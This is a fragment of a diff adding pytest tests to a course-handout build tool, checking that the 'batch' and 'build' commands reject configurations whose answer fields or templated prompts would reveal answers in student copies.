+                                     'answer = "runs.0.final_loss"'))
+    code = cli.main(["batch", str(config), "--out", str(tmp_path / "out"), "-q"])
+    err = capsys.readouterr().err.strip().splitlines()
+    assert code == 2 and len(err) == 1 and not (tmp_path / "out").exists()
+    assert "exercises[0].answer: a student copy cannot withhold what 'runs.0.final_loss'" \
+        in err[0]
+
+
+def test_a_prompt_that_prints_its_answer_is_refused_at_build(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str],
+) -> None:
+    one = tmp_path / "one.toml"  # a handout with exercises and no roster: build makes it
+    one.write_text(re.sub(r"\[students\][\s\S]*?(?=\[\[exercises\]\])", "", COURSE).replace(
+        'prompt = "Count the steps."',
+        'prompt = "hint: {{ \\"%.5f\\"|format(results.diagnostics.max_stable_lr) }}"'))
+    code = cli.main(["build", str(one), "--out", str(tmp_path / "out"), "--format", "html",
+                     "-q"])
+    err = capsys.readouterr().err.strip().splitlines()
+    assert code == 2 and len(err) == 1 and not (tmp_path / "out").exists()
+    assert "exercises[2].prompt: uses what a student copy does not hold" in err[0]
